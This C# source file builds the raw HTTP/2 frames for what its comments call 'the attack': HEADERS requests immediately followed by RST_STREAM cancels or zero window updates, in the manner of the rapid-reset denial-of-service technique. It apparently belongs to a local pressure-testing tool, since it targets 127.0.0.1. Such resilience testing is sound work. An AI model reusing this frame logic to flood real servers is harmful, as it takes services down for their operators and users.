using System.Buffers.Binary;
using System.Text;

namespace Weir.Pressure;

/// <summary>The few frames of HTTP/2 that the attack sends, and the header of those that it gets. Immutable.</summary>
internal sealed class ResetFrames(ResetKind kind, int port)
{
    public const int HeaderBytes = 9;
    public const byte TypeHeaders = 1;
    public const byte TypeSettings = 4;
    public const byte TypeGoAway = 7;
    public const byte FlagEndStream = 1;
    public const byte FlagAck = 1;

    private const byte TypeReset = 3;
    private const byte TypeWindowUpdate = 8;
    private const byte FlagEndHeaders = 4;
    private const byte IndexedGet = 0x82;
    private const byte IndexedPost = 0x83;
    private const byte IndexedSchemeHttp = 0x86;
    private const byte LiteralAuthority = 0x01;
    private const byte LiteralPath = 0x04;
    private const uint Cancel = 8;

    // The origin answers later than the reset comes: what is attacked is work that has begun.
    private const string Path = "/delay/50";

    private readonly byte[] _block = Block(kind, port);

    /// <summary>The preface of a connection with empty SETTINGS.</summary>
    public static ReadOnlySpan<byte> Preface => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"u8;

    public static ReadOnlySpan<byte> SettingsAck => "\0\0\0\x04\x01\0\0\0\0"u8;

    /// <summary>Bytes of one attacked stream.</summary>
    public int StreamBytes => HeaderBytes + _block.Length + HeaderBytes + 4;

    /// <summary>A request, and what makes it end: its whole life on the wire.</summary>
    public void Write(Span<byte> target, int stream)
    {
        bool isOver = kind == ResetKind.ByClient;
        byte flags = (byte)(FlagEndHeaders | (isOver ? FlagEndStream : 0));
        Header(target, _block.Length, TypeHeaders, flags, stream);
        _block.CopyTo(target[HeaderBytes..]);
        Span<byte> end = target[(HeaderBytes + _block.Length)..];
        Header(end, 4, isOver ? TypeReset : TypeWindowUpdate, 0, stream);
        BinaryPrimitives.WriteUInt32BigEndian(end[HeaderBytes..], isOver ? Cancel : 0);
    }

    private static void Header(Span<byte> target, int length, byte type, byte flags, int stream)
    {
        BinaryPrimitives.WriteUInt32BigEndian(target, (uint)length << 8 | type);
        target[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(target[5..], stream);
    }

    private static byte[] Block(ResetKind kind, int port)
    {
        byte[] authority = Encoding.ASCII.GetBytes($"127.0.0.1:{port}");
        byte[] path = Encoding.ASCII.GetBytes(Path);
        return
        [
            kind == ResetKind.ByClient ? IndexedGet : IndexedPost, IndexedSchemeHttp,
            LiteralAuthority, (byte)authority.Length, .. authority, LiteralPath, (byte)path.Length, .. path,
        ];
    }
}
